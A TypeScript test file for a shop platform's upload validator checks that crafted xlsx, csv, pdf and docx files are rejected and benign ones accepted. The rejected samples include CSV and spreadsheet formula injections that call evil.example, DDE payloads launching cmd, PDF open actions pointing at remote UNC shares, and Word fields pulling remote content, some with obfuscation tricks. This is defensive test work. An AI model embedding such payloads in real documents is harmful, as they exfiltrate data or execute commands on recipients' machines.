import type { ProblemCode } from '@mall/contract/base/problem'
import { problemText } from '@mall/contract/base/problem'
import { describe, expect, test } from 'vitest'
import { send } from '#test/form.ts'
import { docRel, makeBook, makeLetter, makePdfWith, part, pdfObjects, relsPart } from '#test/samples/made-papers.ts'
import { useMall } from '#test/mall.ts'
import { arrangeShop, tokenFor } from '#test/shop.ts'

let token: string
const mall = useMall(async (made) => {
  const shop = arrangeShop(made.owner)
  await shop.makeTenant()
  token = await tokenFor(made, await shop.makeStore())
})

type Sample = [what: string, name: string, make: () => Buffer | string]
const formula = (text: string) => makeBook([], { cells: `<c r="A1"><f>${text}</f><v>1</v></c>` })
const connection = (more: string) =>
  part(
    'xl/connections.xml',
    `<connections><connection id="1" name="매출" type="1"${more}><dbPr connection="Driver=x;Server=evil" command="select 1"/></connection></connections>`,
  )
const pivot = (source: string) =>
  part(
    'xl/pivotCache/pivotCacheDefinition1.xml',
    `<pivotCacheDefinition refreshOnLoad="1">${source}</pivotCacheDefinition>`,
  )
const chunk = relsPart('word/_rels/document.xml.rels', 'aFChunk', 'afchunk.htm', false)
const field = (text: string) => makeLetter([], { body: `<w:p><w:fldSimple w:instr="${text}"/></w:p>` })
const far = '/S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]'

const bad: Record<string, Sample[]> = {
  FILE_CALLS_OUT: [
    ['a connection refreshed on opening', 'a.xlsx', () => makeBook([connection(' refreshOnLoad="1"')])],
    [
      'a connection refreshed on opening, in another spelling',
      'a.xlsx',
      () => makeBook([connection(` refreshOnLoad = '&#116;rue'`)]),
    ],
    [
      'a query table refreshed on opening',
      'a.xlsx',
      () =>
        makeBook([part('xl/queryTables/queryTable1.xml', '<queryTable name="a" refreshOnLoad="1" connectionId="1"/>')]),
    ],
    [
      'a pivot table with a database source',
      'a.xlsx',
      () => makeBook([pivot('<cacheSource type="external" connectionId="1"/>')]),
    ],
    ['WEBSERVICE in a cell', 'a.xlsx', () => formula('_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;&amp;A2)')],
    ['WEBSERVICE with escapes', 'a.xlsx', () => formula('_xlfn.&#87;EBSERVICE(A2)')],
    ['WEBSERVICE in CDATA', 'a.xlsx', () => formula('<![CDATA[_xlfn.WEBSERVICE("http://a.kr")]]>')],
    ['WEBSERVICE split by a comment', 'a.xlsx', () => formula('_xlfn.WEB<!-- -->SERVICE(A2)')],
    [
      'WEBSERVICE in a defined name',
      'a.xlsx',
      () =>
        makeBook([
          part('xl/names.xml', '<definedNames><definedName name="a">_xlfn.WEBSERVICE(A2)</definedName></definedNames>'),
        ]),
    ],
    ['HYPERLINK in a CSV file', 'a.csv', () => '품목,수량\r\n두부,=HYPERLINK("http://evil.example/?"&A1)\r\n'],
    ['WEBSERVICE in a quoted cell', 'a.csv', () => '두부,"=IF(A1>0,\n WEBSERVICE(""http://evil.example""),0)"\r\n'],
    ['IMPORTXML after a sign', 'a.csv', () => '두부;+1+IMPORTXML("http://evil.example";"//a")\r\n'],
    ['IMAGE after an at sign', 'a.csv', () => '두부\t@IMAGE("http://evil.example/a.png")\r\n'],
    ['a formula after a UTF-8 BOM', 'a.csv', () => '\ufeff=HYPERLINK("http://evil.example")'],
    ['a formula in full-width characters', 'a.csv', () => '두부,＝WEBSERVICE("http://evil.example")\r\n'],
    ['a formula after a custom separator', 'a.csv', () => 'sep=|\r\n두부|-WEBSERVICE("http://evil.example")\r\n'],
  ],
  FILE_LINKS_PROGRAM: [
    ['DDE later in a cell', 'a.csv', () => "두부,@SUM(1+9)*cmd|' /C calc'!A0\r\n"],
    ['DDE after a UTF-8 BOM', 'a.csv', () => "\ufeff=cmd|'/c calc'!A0"],
  ],
  FILE_LOADS_REMOTE: [
    ['an open action pointing to another machine', 'a.pdf', () => makePdfWith(`/OpenAction<<${far}>>`)],
    ['an open action in an object stream', 'a.pdf', () => makePdfWith('/OpenAction 9 0 R', pdfObjects(`<<${far}>>`))],
    [
      'a remote path in UTF-16',
      'a.pdf',
      () => makePdfWith('/OpenAction<</S/GoToR/F<FEFF005C005C006500760069006C005C0061>/D[0/Fit]>>'),
    ],
    [
      'a remote path in a separate object',
      'a.pdf',
      () => makePdfWith('/OpenAction<</S/GoToR/F 4 0 R/D[0/Fit]>>', '(\\\\\\\\evil\\\\share)'),
    ],
    [
      'a remote path with slashes',
      'a.pdf',
      () => makePdfWith('/OpenAction<</S/GoToR/F<</Type/Filespec/F(/evil/share/a.pdf)>>/D[0/Fit]>>'),
    ],
    ['imported form data', 'a.pdf', () => makePdfWith('', '<</S/ImportData/F(a.fdf)>>')],
    ['a picture on another machine', 'a.docx', () => makeLetter([docRel('image', 'file:///\\\\10.0.0.1\\a\\b.png')])],
    ['a field including remote text', 'a.docx', () => field('INCLUDETEXT &quot;https://evil.example/a.docx&quot;')],
    [
      'a field with a picture on another machine',
      'a.docx',
      () => field('INCLUDEPICTURE &quot;\\\\\\\\10.0.0.1\\\\a.png&quot;'),
    ],
  ],
  FILE_LOCKED: [
    [
      'an encrypted PDF pointing into another file',
      'a.pdf',
      () => makePdfWith(`/OpenAction<</S/GoToR/F(x)>>/Encrypt 8 0 R`),
    ],
  ],
  FILE_SENDS_DATA: [
    ['a form submitted on opening', 'a.pdf', () => makePdfWith('/OpenAction<</S/SubmitForm/F(a)/Fields[]>>')],
  ],
  FILE_HAS_MEDIA: [
    [
      'rich media',
      'a.pdf',
      () => makePdfWith('', '<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent 5 0 R>>'),
    ],
  ],
  FILE_EMBEDS_DOCUMENT: [
    [
      'an HTML page in a Word document',
      'a.docx',
      () => makeLetter([chunk, part('word/afchunk.htm', '<html><body>a</body></html>')]),
    ],
  ],
}

describe.each(Object.entries(bad))('rejects with %s', (code, samples) => {
  test.each(samples)('%s', async (_what, name, make) => {
    const { status, problem } = await send(mall, token, name, make())
    expect([problem.code, status]).toEqual([code, 422])
    expect(problem.message).toBe(problemText(code as ProblemCode, 'ko'))
  })
})

const ordinary: Sample[] = [
  ['a connection without automatic refresh', 'a.xlsx', () => makeBook([connection('')])],
  ['a connection with automatic refresh switched off', 'a.xlsx', () => makeBook([connection(' refreshOnLoad="0"')])],
  [
    'a pivot table of the same workbook',
    'a.xlsx',
    () => makeBook([pivot('<cacheSource type="worksheet"><worksheetSource ref="A1:B2" sheet="a"/></cacheSource>')]),
  ],
  ['a link by formula', 'a.xlsx', () => formula('HYPERLINK(&quot;https://nuri.example&quot;,&quot;누리&quot;)')],
  ['a text about WEBSERVICE', 'a.xlsx', () => formula('&quot;WEBSERVICE(&quot;&amp;A1')],
  [
    'placeholders of Google Sheets functions',
    'a.xlsx',
    () =>
      formula(
        'IFERROR(__xludf.DUMMYFUNCTION(&quot;IMPORTRANGE(&quot;&quot;https://a.kr&quot;&quot;,&quot;&quot;a&quot;&quot;)&quot;),3)',
      ),
  ],
  [
    'signs, phone numbers and sums',
    'a.csv',
    () =>
      '품목,재고,전화\r\n두부,-5,+82-10-1234-5678\r\n"콩나물, 1kg",=SUM(B2:B3),@nuri\r\n- 수입 IMPORT(호주),A|300g!,-\r\n',
  ],
  ['links as text', 'a.csv', () => '품목,링크\r\n두부,https://nuri.example/?a=HYPERLINK(1)\r\n'],
  ['a PDF linking to the next chapter', 'a.pdf', () => makePdfWith('', '<</S/GoToR/F(chapter2.pdf)/D[0/Fit]>>')],
  ['a PDF with a macOS file path', 'a.pdf', () => makePdfWith('', '<</Type/Filespec/F(/Users/kim/a.pdf)>>')],
  ['a PDF with a link to a shared folder', 'a.pdf', () => makePdfWith('', '<</S/URI/URI(file://nas/a.pdf)>>')],
  ['a Word document with a linked web picture', 'a.docx', () => field('INCLUDEPICTURE &quot;https://a.kr/a.png&quot;')],
  ['a Word document with linked local text', 'a.docx', () => field('INCLUDETEXT &quot;C:\\\\계약\\\\a.docx&quot;')],
]

test.each(ordinary)('accepts %s', async (_what, name, make) => {
  const { status, problem } = await send(mall, token, name, make())
  expect([problem.code, status]).toEqual([undefined, 200])
})
